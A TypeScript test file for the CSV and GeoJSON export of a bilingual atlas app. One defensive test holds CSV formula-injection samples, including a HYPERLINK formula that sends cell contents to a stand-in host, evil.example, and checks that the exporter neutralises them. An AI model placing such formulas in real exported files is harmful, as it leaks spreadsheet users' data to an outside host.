import { describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  csvCell,
  exportRecords,
  recordsCsv,
  recordsGeoJSON,
  recordsInFilter,
} from '../../src/ui/export/records';
import { countInFilter } from '../../src/domain/filtered';
import { countByDistrict } from '../../src/domain/join';
import type { AtlasModel } from '../../src/domain/model';
import { LAYER_IDS, type InitiativeRecord } from '../../src/domain/schema';
import type { Summaries } from '../../src/data/summaries';
import { EXPORT_MENU } from '../../src/i18n/export-strings';
import { STRINGS } from '../../src/i18n/strings';
import { LANGS } from '../../src/vocabulary';
import { loadRealModel } from './fixtures/real-data';

const ALL = { layers: LAYER_IDS, industries: [] } as const;

/** Splits one CSV line without quoted newlines into its cells. */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i];
    if (quoted && ch === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') quoted = !quoted;
    else if (ch === ',' && !quoted) {
      out.push(cell);
      cell = '';
    } else cell += ch;
  }
  return [...out, cell];
}

function rowOf(csv: string, id: string): Record<string, string> {
  const lines = csv.slice(1).split('\r\n');
  const line = lines.find((l) => l.startsWith(`${id},`));
  if (!line) throw new Error(`no row for ${id}`);
  const values = cells(line);
  return Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, values[i] ?? '']));
}

/** The summaries as the browser has them once loaded (data/summaries.ts), from the build's records. */
function summariesOf(records: readonly InitiativeRecord[]): Summaries {
  return new Map(records.map((r) => [r.id, r.summary]));
}

function recordOf(model: AtlasModel<InitiativeRecord>, test: (r: InitiativeRecord) => boolean) {
  const r = model.records.find(test);
  if (!r) throw new Error('the data has no record of the kind this test needs');
  return r;
}

describe('CSV export', () => {
  it('starts with a UTF-8 byte-order mark and a header, one CRLF row per record', () => {
    const model = loadRealModel();
    const records = recordsInFilter(model, ALL);
    const csv = recordsCsv(model, summariesOf(model.records), records, 'zh');
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    // Quoted cells never contain a bare CRLF here, so rows can be counted by line ends.
    expect(csv.split('\r\n').length - 2).toBe(records.length);
  });

  it('has readable headers in the interface language, one per column', () => {
    const model = loadRealModel();
    for (const lang of LANGS) {
      const header = cells(recordsCsv(model, summariesOf(model.records), [], lang).slice(1).split('\r\n')[0] ?? '');
      expect(header).toEqual(CSV_COLUMNS.map((c) => EXPORT_MENU[lang].csvColumns[c]));
    }
    const zh = Object.values(EXPORT_MENU.zh.csvColumns);
    const en = Object.values(EXPORT_MENU.en.csvColumns);
    expect(zh.every((h) => /\p{Script=Han}/u.test(h))).toBe(true);
    expect(en.some((h) => /\p{Script=Han}/u.test(h))).toBe(false);
    expect(new Set(zh).size).toBe(zh.length);
    expect(new Set(en).size).toBe(en.length);
  });

  it('writes layer, kind, scope, industries and precision as words in the language, ids in their own columns', () => {
    const model = loadRealModel();
    const r = recordOf(model, (x) => x.scope === 'district' && x.industries.length > 0);
    const p = model.placed.find((x) => x.id === r.id);
    for (const lang of LANGS) {
      const t = STRINGS[lang];
      const row = rowOf(recordsCsv(model, summariesOf(model.records), [r], lang), r.id);
      expect(row.id).toBe(r.id);
      expect(row.layer).toBe(t.layerNames[r.layer]);
      expect(row.layer_id).toBe(r.layer);
      expect(row.kind).toBe(t.kindNames[r.kind]);
      expect(row.kind_id).toBe(r.kind);
      expect(row.scope).toBe(t.scope[r.scope]);
      expect(row.scope_id).toBe(r.scope);
      expect(row.industry_ids).toBe(r.industries.join(';'));
      for (const i of r.industries) expect(row.industries).toContain(model.industryById[i]?.label[lang]);
      expect(row.district_ids).toBe(r.districts.join(';'));
      expect(row.districts).toContain(model.districtBySlug[r.districts[0] ?? 'huangpu'].name[lang]);
      expect(row.precision).toBe(p ? t.precision[p.precision] : '');
      expect(row.precision_id).toBe(p?.precision ?? '');
      expect(row.quote).toBe(r.quote);
      // The summaries come from their own file (data/summaries.ts), the rest from the model.
      expect(row.summary_zh).toBe(r.summary.zh);
      expect(row.summary_en).toBe(r.summary.en);
    }
  });

  it('quotes cells with commas or quotes, doubling the quotes', () => {
    const model = loadRealModel();
    const r = structuredClone(model.records[0]);
    if (!r) throw new Error('no record');
    r.name.en = 'A "quoted", name';
    const line = recordsCsv(model, summariesOf(model.records), [r], 'en').split('\r\n')[1] ?? '';
    expect(line).toContain('"A ""quoted"", name"');
  });

  it('writes text a spreadsheet would run as a formula with a leading apostrophe, quoted (OWASP CSV injection)', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(text), text).toBe(`"'${text}"`);
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Details")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Details"")"`,
    );
    const model = loadRealModel();
    const r = structuredClone(model.records[0]);
    if (!r) throw new Error('no record');
    r.name.en = '=HYPERLINK("http://evil.example/","Details")';
    r.summary.en = '@cmd';
    const row = rowOf(recordsCsv(model, summariesOf([r]), [r], 'en'), r.id);
    expect(row.name_en).toBe(`'${r.name.en}`);
    expect(row.summary_en).toBe("'@cmd");
  });

  it('leaves numbers, and text with those characters further in, as they are', () => {
    expect(csvCell(-121.5)).toBe('-121.5');
    expect(csvCell('“互联网+生活性服务业”创新试验区')).toBe('“互联网+生活性服务业”创新试验区');
    expect(csvCell('a-b = c')).toBe('a-b = c');
  });

  it('needs no apostrophe for any cell of the real data', () => {
    const model = loadRealModel();
    for (const lang of LANGS)
      for (const line of recordsCsv(model, summariesOf(model.records), model.records, lang).slice(1).split('\r\n'))
        for (const cell of cells(line)) expect(cell, line).not.toMatch(/^'[=+\-@\t\r]/);
  });

  it('keeps figures in the units of the source in Chinese and in words in English', () => {
    const model = loadRealModel();
    const fund = recordOf(model, (r) => r.figures.some((f) => f.unit === '亿元' && f.value === 10));
    for (const lang of LANGS) {
      const csv = recordsCsv(model, summariesOf(model.records), [fund], lang);
      expect(csv).toContain('10亿元');
      expect(csv).toContain('CNY 1 billion');
    }
  });
});

describe('what an export holds', () => {
  it("is every record in the filter, as many as the layers panel's counts add up to", () => {
    const model = loadRealModel();
    for (const f of [ALL, { layers: ['clusters', 'platforms'] as const, industries: ['smart-manufacturing'] }]) {
      const records = exportRecords(model, f, null);
      expect(records).toEqual(recordsInFilter(model, f));
      expect(records).toHaveLength(countInFilter(model, f));
    }
  });

  it("is the selected district's records in the filter, as many as the district list shows", () => {
    const model = loadRealModel();
    const f = { layers: LAYER_IDS, industries: ['tech-finance'] };
    const counts = countByDistrict(model, f);
    for (const d of model.districts) {
      const records = exportRecords(model, f, d.slug);
      expect(records.length, d.slug).toBe(counts[d.slug].total);
      expect(records.every((r) => r.districts.includes(d.slug))).toBe(true);
    }
  });
});

interface Fc {
  atlas: { records: number; withoutGeometry: string[]; notes: { zh: string; en: string } };
  features: {
    id: string;
    geometry: { type: string; coordinates: unknown } | null;
    properties: { scope: string; precision: string | null };
  }[];
}

describe('GeoJSON export', () => {
  it('has a feature for every record given, in order: none is dropped', () => {
    const model = loadRealModel();
    const records = recordsInFilter(model, ALL);
    const fc = JSON.parse(recordsGeoJSON(model, records)) as Fc;
    expect(fc.features.map((f) => f.id)).toEqual(records.map((r) => r.id));
    expect(fc.atlas.records).toBe(records.length);
  });

  it('puts district records where the map draws them, with their precision', () => {
    const model = loadRealModel();
    const fc = JSON.parse(recordsGeoJSON(model, recordsInFilter(model, ALL))) as Fc;
    for (const p of model.placed) {
      const f = fc.features.find((x) => x.id === p.id);
      expect(f?.geometry?.type).toBe('Point');
      const [lng, lat] = (f?.geometry?.coordinates ?? []) as number[];
      expect(lng).toBeCloseTo(p.lng, 5);
      expect(lat).toBeCloseTo(p.lat, 5);
      expect(f?.properties.precision).toBe(p.precision);
    }
  });

  it('puts regional and international records at the approximate centres of their places', () => {
    const model = loadRealModel();
    const fc = JSON.parse(recordsGeoJSON(model, recordsInFilter(model, ALL))) as Fc;
    const beyond = model.records.filter((r) => r.scope === 'region' || r.scope === 'international');
    expect(beyond.length).toBeGreaterThan(0);
    for (const r of beyond) {
      const f = fc.features.find((x) => x.id === r.id);
      const places = r.regions.flatMap((id) => {
        const g = model.regionById[id];
        return g && g.lng !== null && g.lat !== null ? [[g.lng, g.lat]] : [];
      });
      if (places.length === 0) expect(f?.geometry, r.id).toBeNull();
      else if (places.length === 1) expect(f?.geometry, r.id).toEqual({ type: 'Point', coordinates: places[0] });
      else expect(f?.geometry, r.id).toEqual({ type: 'MultiPoint', coordinates: places });
      if (places.length > 0) expect(f?.properties.precision, r.id).toBe('approximate');
    }
  });

  it('gives city-wide records no geometry, and declares every record without one', () => {
    const model = loadRealModel();
    const fc = JSON.parse(recordsGeoJSON(model, recordsInFilter(model, ALL))) as Fc;
    const city = model.records.filter((r) => r.scope === 'city').map((r) => r.id);
    expect(city.length).toBeGreaterThan(0);
    for (const id of city) expect(fc.features.find((f) => f.id === id)?.geometry, id).toBeNull();
    expect(fc.atlas.withoutGeometry).toEqual(fc.features.filter((f) => f.geometry === null).map((f) => f.id));
    expect(fc.atlas.notes).toEqual({ zh: EXPORT_MENU.zh.geojsonNote, en: EXPORT_MENU.en.geojsonNote });
  });
});
